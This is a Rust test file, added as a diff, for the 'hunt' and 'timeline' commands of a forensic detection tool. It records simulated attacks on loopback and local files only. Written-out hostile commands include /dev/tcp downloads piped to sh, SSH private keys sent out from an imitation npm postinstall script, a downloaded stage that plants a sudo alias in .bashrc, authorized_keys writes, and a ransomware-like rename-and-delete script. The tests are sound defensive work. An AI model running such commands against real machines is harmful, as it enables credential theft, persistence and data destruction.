@@ -1,0 +1,485 @@
+//! `hunt` finds what its rules describe in recorded runs, and nothing in their harmless
+//! neighbours. All attacks here are simulations that touch the test's own files only.
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::thread::JoinHandle;
+
+use backstory_testkit::need::needs;
+use serde_json::Value;
+
+use super::Place;
+
+/// A server on the loopback that gives each of `clients` the answer and takes what they send.
+pub struct LoopbackServer {
+    pub port: u16,
+    takes: JoinHandle<()>,
+}
+
+impl LoopbackServer {
+    pub fn new(clients: usize, answer: &'static str) -> LoopbackServer {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let takes = std::thread::spawn(move || {
+            for _ in 0..clients {
+                let (mut peer, _) = listener.accept().unwrap();
+                peer.write_all(answer.as_bytes()).unwrap();
+                peer.shutdown(std::net::Shutdown::Write).unwrap();
+                let _ = peer.read_to_end(&mut Vec::new());
+            }
+        });
+        LoopbackServer { port, takes }
+    }
+
+    /// A command that prints what the server answers.
+    pub fn download(&self) -> String {
+        format!(
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}; cat <&3'",
+            self.port
+        )
+    }
+
+    /// A command that sends its input.
+    pub fn upload(&self) -> String {
+        format!(
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}; cat >&3'",
+            self.port
+        )
+    }
+
+    fn end(self) {
+        self.takes.join().unwrap();
+    }
+}
+
+/// The findings of a rule in a run.
+#[track_caller]
+pub fn found(place: &Place, run: &str, rule: &str) -> Vec<Value> {
+    let answer = place.run(&["hunt", run, "--rule", rule, "--json"]);
+    assert_eq!(answer.err, "");
+    let Ok(Value::Array(found)) = serde_json::from_str(&answer.out) else {
+        panic!("{answer:?}");
+    };
+    assert_eq!(answer.status, i32::from(found.is_empty()));
+    found
+}
+
+/// The targets of a finding's operations.
+fn targets(finding: &Value) -> Vec<&str> {
+    let steps = finding["steps"].as_array().unwrap().iter();
+    steps
+        .map(|step| step["target"].as_str().unwrap_or(""))
+        .collect()
+}
+
+fn names(files: &Value) -> Vec<&str> {
+    files
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|file| file.as_str().unwrap())
+        .collect()
+}
+
+#[test]
+fn a_write_to_a_start_up_file_is_found_and_a_read_is_not() {
+    let place = Place::new();
+    place.write("key", "k\n");
+    let run = place.record(
+        "mkdir -p .ssh .config/systemd/user; echo x >> .bashrc; mv key .ssh/authorized_keys; \
+         echo x > .config/systemd/user/a.service",
+    );
+    let all = found(&place, &run, "startup-file-written");
+    let mut files: Vec<&str> = all.iter().map(|one| targets(one)[0]).collect();
+    files.sort_unstable();
+    let wanted = [
+        ".bashrc",
+        ".config/systemd/user/a.service",
+        ".ssh/authorized_keys",
+    ];
+    assert_eq!(files, wanted.map(|name| place.path(name)));
+    let sources: Vec<&Value> = all.iter().map(|one| &one["steps"][0]["source"]).collect();
+    let of_key = sources.iter().filter(|source| !source.is_null());
+    assert_eq!(
+        of_key.collect::<Vec<_>>(),
+        [&&Value::from(place.path("key"))]
+    );
+    let text = place.run(&["hunt", &run, "--full"]).out;
+    let name = place.path(".bashrc");
+    assert!(!text.contains(&format!("{name} from {name}")), "{text}");
+    let run = place.record("cat .bashrc > copy; echo x > bashrc; cp bashrc .bashrc.new");
+    assert_eq!(
+        found(&place, &run, "startup-file-written"),
+        [Value::Null; 0]
+    );
+}
+
+#[test]
+fn a_download_that_a_shell_runs_is_found_and_one_that_it_only_reads_is_not() {
+    if !needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    place.write("own.sh", "true\n");
+    let server = LoopbackServer::new(4, "true\n");
+    let load = server.download();
+    for line in [
+        format!("{load} | sh"),
+        format!("{load} > got.sh; sh got.sh"),
+    ] {
+        let run = place.record(&line);
+        let all = found(&place, &run, "download-run-by-shell");
+        assert_eq!(all.len(), 1, "{line}: {all:?}");
+        assert_eq!(
+            targets(&all[0])[0],
+            format!("tcp:127.0.0.1:{}", server.port)
+        );
+    }
+    for line in [
+        format!("x=$({load}); echo \"$x\""),
+        format!("{load} | sort > out; sh own.sh"),
+    ] {
+        let run = place.record(&line);
+        assert_eq!(
+            found(&place, &run, "download-run-by-shell"),
+            [Value::Null; 0],
+            "{line}"
+        );
+    }
+    server.end();
+}
+
+#[test]
+fn a_secret_that_is_read_and_then_sent_is_found_and_not_the_other_way_round() {
+    if !needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    std::fs::create_dir(place.work().join(".ssh")).unwrap();
+    place.write(".ssh/id_ed25519", "secret\n");
+    place.write(".ssh/id_ed25519.pub", "public\n");
+    let server = LoopbackServer::new(4, "");
+    let send = server.upload();
+    for line in [
+        format!("cat .ssh/id_ed25519 | {send}"),
+        format!("gzip < .ssh/id_ed25519 > x; {send} < x"),
+    ] {
+        let run = place.record(&line);
+        let all = found(&place, &run, "secret-sent");
+        assert_eq!(all.len(), 1, "{line}: {all:?}");
+        let address = format!("tcp:127.0.0.1:{}", server.port);
+        assert_eq!(targets(&all[0]), [place.path(".ssh/id_ed25519"), address]);
+    }
+    for line in [
+        format!("echo x | {send}; cat .ssh/id_ed25519 > copy"),
+        format!("cat .ssh/id_ed25519.pub | {send}"),
+    ] {
+        let run = place.record(&line);
+        assert_eq!(
+            found(&place, &run, "secret-sent"),
+            [Value::Null; 0],
+            "{line}"
+        );
+    }
+    server.end();
+}
+
+#[test]
+fn a_shell_that_a_server_starts_is_found_if_a_client_was_there_before() {
+    if !needs("a server", &["python3"]) {
+        return;
+    }
+    let place = Place::new();
+    place.write(
+        "server.py",
+        "import socket, subprocess, sys\n\
+         listener = socket.create_server(('127.0.0.1', 0))\n\
+         client = socket.create_connection(listener.getsockname())\n\
+         peer, _ = listener.accept()\n\
+         if sys.argv[1] == 'before': subprocess.run(['sh', '-c', 'true'])\n\
+         client.sendall(b'x')\n\
+         peer.recv(1)\n\
+         if sys.argv[1] == 'after': subprocess.run(['sh', '-c', 'true'])\n",
+    );
+    let run = place.record("python3 server.py after");
+    assert_eq!(found(&place, &run, "shell-started-by-server").len(), 1);
+    let run = place.record("python3 server.py before");
+    assert_eq!(
+        found(&place, &run, "shell-started-by-server"),
+        [Value::Null; 0]
+    );
+}
+
+#[test]
+fn a_build_input_from_the_network_is_found_and_a_local_one_is_not() {
+    if !needs("a client and a compiler", &["bash", "cc"]) {
+        return;
+    }
+    let place = Place::new();
+    place.write("m.c", "#include \"x.h\"\nint x = X;\n");
+    place.write("x.h", "#define X 1\n");
+    let server = LoopbackServer::new(2, "#define X 2\n");
+    let load = server.download();
+    let run = place.record(&format!("{load} > y.h; cc -c m.c"));
+    assert_eq!(
+        found(&place, &run, "build-input-from-network"),
+        [Value::Null; 0]
+    );
+    let run = place.record(&format!("{load} > x.h; cc -c m.c"));
+    let all = found(&place, &run, "build-input-from-network");
+    assert!(
+        all.iter().any(|one| targets(one)[1] == place.path("x.h")),
+        "{all:?}"
+    );
+    server.end();
+}
+
+/// An imitation of npm, which runs the script of a package.
+const NPM: &str = "#!/bin/sh\ncase $1 in install) sh package/postinstall.sh ;; esac\n";
+
+fn npm(place: &Place, script: &str) {
+    std::fs::create_dir_all(place.work().join(".ssh")).unwrap();
+    std::fs::create_dir_all(place.work().join("package")).unwrap();
+    place.write(".ssh/id_ed25519", "secret\n");
+    place.write(".ssh/known_hosts", "host\n");
+    place.write_program("npm", NPM);
+    place.write("package/postinstall.sh", script);
+}
+
+#[test]
+fn an_install_script_that_reads_keys_is_found_and_known_hosts_are_not() {
+    let place = Place::new();
+    npm(&place, "cat .ssh/id_ed25519 > /dev/null\n");
+    let run = place.record("./npm install");
+    assert_eq!(found(&place, &run, "install-script-reads-keys").len(), 1);
+    place.write(
+        "package/postinstall.sh",
+        "cat .ssh/known_hosts > /dev/null\n",
+    );
+    let run = place.record("./npm install; ./npm test; cat .ssh/id_ed25519 > /dev/null");
+    assert_eq!(
+        found(&place, &run, "install-script-reads-keys"),
+        [Value::Null; 0]
+    );
+}
+
+#[test]
+fn a_file_that_is_deleted_after_it_was_sent_is_found_and_another_one_is_not() {
+    if !needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    for name in ["a", "b"] {
+        place.write_aged(name, "content\n");
+    }
+    let server = LoopbackServer::new(2, "");
+    let send = server.upload();
+    let run = place.record(&format!("cat a | {send}; rm b"));
+    assert_eq!(found(&place, &run, "deleted-after-sent"), [Value::Null; 0]);
+    let run = place.record(&format!("cat a | {send}; rm a"));
+    let all = found(&place, &run, "deleted-after-sent");
+    assert_eq!(all.len(), 1, "{all:?}");
+    assert_eq!(targets(&all[0])[2], place.path("a"));
+    server.end();
+}
+
+#[test]
+fn older_files_that_give_way_to_longer_names_are_found_and_other_renames_and_removals_are_not() {
+    let filled = || {
+        let place = Place::new();
+        (0..25).for_each(|number| place.write(format!("f{number}"), "x\n"));
+        place
+    };
+    for harmless in [
+        "for i in 1 2 3; do mv f$i f$i.locked; done",
+        "for f in f*; do mv $f $f.locked; mv $f.locked $f; done",
+        "for i in $(seq 25); do echo x > n$i; mv n$i n$i.locked; done",
+        "rm f*",
+        "mkdir sorted; mv f* sorted",
+        "for f in f*; do mv $f $f.bak; echo y > $f; done",
+        "gzip f*",
+    ] {
+        let place = filled();
+        let run = place.record(harmless);
+        let all = found(&place, &run, "rename-storm");
+        assert_eq!(all, [Value::Null; 0], "{harmless}");
+    }
+    let place = filled();
+    let run = place.record("for f in f*; do mv $f $f.locked; done");
+    let all = found(&place, &run, "rename-storm");
+    assert_eq!((all.len(), &all[0]["count"]), (1, &25.into()), "{all:?}");
+}
+
+#[test]
+fn a_checkout_that_removes_and_rewrites_many_files_is_no_storm_of_renames() {
+    if !needs("git", &["git"]) {
+        return;
+    }
+    let place = Place::new();
+    place.git(&["init", "-q"]);
+    (0..50).for_each(|number| place.write(format!("f{number}"), "1\n"));
+    place.git(&["add", "."]);
+    place.git(&["commit", "-qm", "1"]);
+    (0..25).for_each(|number| place.write(format!("f{number}"), "2\n"));
+    (25..50)
+        .for_each(|number| std::fs::remove_file(place.work().join(format!("f{number}"))).unwrap());
+    place.git(&["add", "-A"]);
+    place.git(&["commit", "-qm", "2"]);
+    let run = place.record("git checkout -q HEAD~1; git checkout -q -");
+    assert_eq!(found(&place, &run, "rename-storm"), [Value::Null; 0]);
+}
+
+#[test]
+fn a_backdoor_that_a_build_script_downloads_is_told_from_its_cause_to_its_extent() {
+    if !needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    let server = LoopbackServer::new(1, "echo 'alias sudo=x' >> .bashrc\ndate > marker\n");
+    let build = format!(
+        "echo building; {} > stage.sh\nsh stage.sh\n",
+        server.download()
+    );
+    place.write("build.sh", &build);
+    let run = place.record("sh build.sh");
+    server.end();
+    let all = found(&place, &run, "startup-file-written");
+    assert_eq!(all.len(), 1, "{all:?}");
+    let finding = &all[0];
+    assert_eq!(finding["cause_file"], place.path("stage.sh"));
+    assert_eq!(
+        finding["cause"]["argv"],
+        serde_json::json!(["sh", "stage.sh"])
+    );
+    let origin = finding["cause_origin"].as_str().unwrap();
+    assert!(origin.starts_with("tcp:127.0.0.1:"), "{origin}");
+    let changed = names(&finding["extent"]["changed"]);
+    assert_eq!(changed, [place.path(".bashrc"), place.path("marker")]);
+    assert_eq!(found(&place, &run, "download-run-by-shell").len(), 1);
+    let text = place.run(&["hunt", &run]).out;
+    for word in [
+        "HIGH",
+        "stage.sh",
+        "from tcp:127.0.0.1:",
+        ".bashrc",
+        "backstory of ",
+    ] {
+        assert!(text.contains(word), "no {word} in {text}");
+    }
+}
+
+#[test]
+fn a_theft_by_an_install_script_is_told_from_its_cause_to_its_extent() {
+    if !needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    let server = LoopbackServer::new(1, "");
+    let script = format!("cat .ssh/id_ed25519 | base64 | {}\n", server.upload());
+    npm(&place, &script);
+    let run = place.record("./npm install");
+    server.end();
+    let mut rules = Vec::new();
+    for finding in place.json(&["hunt", &run, "--json"]).as_array().unwrap() {
+        rules.push(finding["rule"].as_str().unwrap().to_owned());
+        if rules.last().unwrap() == "secret-sent" {
+            assert_eq!(
+                finding["cause_file"],
+                place.path("package/postinstall.sh"),
+                "{finding}"
+            );
+            let sent = names(&finding["extent"]["sent_to"]);
+            assert!(
+                sent.len() == 1 && sent[0].starts_with("tcp:127.0.0.1:"),
+                "{sent:?}"
+            );
+        }
+    }
+    // The most serious first.
+    assert_eq!(rules, ["install-script-reads-keys", "secret-sent"]);
+}
+
+#[test]
+fn a_storm_of_renames_is_told_from_its_cause_to_its_extent() {
+    let place = Place::new();
+    for number in 0..30 {
+        place.write(format!("doc{number}"), "mine\n");
+    }
+    place.write(
+        "lock.sh",
+        "for f in doc*; do tr a-z n-za-m < $f > $f.locked; rm $f; done; echo pay > README\n",
+    );
+    let run = place.record("sh lock.sh");
+    let all = found(&place, &run, "rename-storm");
+    assert_eq!(all.len(), 1, "{all:?}");
+    assert_eq!(all[0]["cause_file"], place.path("lock.sh"));
+    assert_eq!(names(&all[0]["extent"]["removed"]).len(), 30);
+    assert_eq!(names(&all[0]["extent"]["changed"]).len(), 31);
+}
+
+#[test]
+fn a_rule_of_the_user_runs_beside_one_that_does_not_compile() {
+    let place = Place::new();
+    place.write(
+        "rules.yml",
+        "title: A marker\nid: marker\nlevel: low\n\
+         detection:\n  made:\n    Operation: [write, make]\n    TargetFilename|endswith: /marker\n  \
+         condition: made\n---\n\
+         title: Broken\nid: broken\ndetection:\n  s:\n    Imag: x\n  condition: s\n",
+    );
+    let run = place.record("echo x > marker");
+    let answer = place.run(&["hunt", &run, "--rules", "rules.yml", "--json"]);
+    let mistake = "backstory: rule left out: rules.yml:14:5: unknown field `Imag`";
+    assert!(answer.err.starts_with(mistake), "{answer:?}");
+    assert!(
+        answer.status == 0 && answer.out.contains("\"marker\""),
+        "{answer:?}"
+    );
+    place
+        .run(&["hunt", "--rules", "nowhere"])
+        .is_error(2, &["cannot read rules from nowhere"]);
+    place
+        .run(&["hunt", "--rule", "nothing"])
+        .is_error(2, &["no rule is named nothing", "--list"]);
+}
+
+#[test]
+fn a_timeline_has_the_events_of_a_run_a_file_and_an_address_in_order() {
+    if !needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    let server = LoopbackServer::new(1, "x\n");
+    let first = place.record("echo x > a; mv a b");
+    let second = place.record(&format!("{} > c; cat b", server.download()));
+    let port = server.port.to_string();
+    server.end();
+    let words = |answer: &Value| -> Vec<(String, String)> {
+        let word = |event: &Value, key: &str| event[key].as_str().unwrap_or("").to_owned();
+        let all = answer.as_array().unwrap().iter();
+        all.map(|event| (word(event, "run"), word(event, "operation")))
+            .collect()
+    };
+    let of_file = words(&place.json(&["timeline", &place.path("b"), "--json"]));
+    let has = |run: &str, what: &str| of_file.contains(&(run.to_owned(), what.to_owned()));
+    assert!(has(&first, "rename") && has(&second, "read"), "{of_file:?}");
+    assert_eq!(of_file[0].0, first);
+    let of_peer = words(&place.json(&["timeline", &format!("127.0.0.1:{port}"), "--json"]));
+    assert!(
+        of_peer.contains(&(second.clone(), "receive".to_owned())),
+        "{of_peer:?}"
+    );
+    let text = place.run(&["timeline", &first]).out;
+    let at = |word: &str| {
+        text.find(word)
+            .unwrap_or_else(|| panic!("no {word} in {text}"))
+    };
+    assert!(at("write") < at("rename"), "{text}");
+    let csv = place.run(&["timeline", &first, "--csv"]).out;
+    assert!(
+        csv.starts_with("time,run,operation,target,source,certainty,pid,command\n"),
+        "{csv}"
+    );
+    let none = place.run(&["timeline", &first, "--to", "2001-01-01"]);
+    assert_eq!((none.status, none.out.as_str()), (1, "no events\n"));
+}
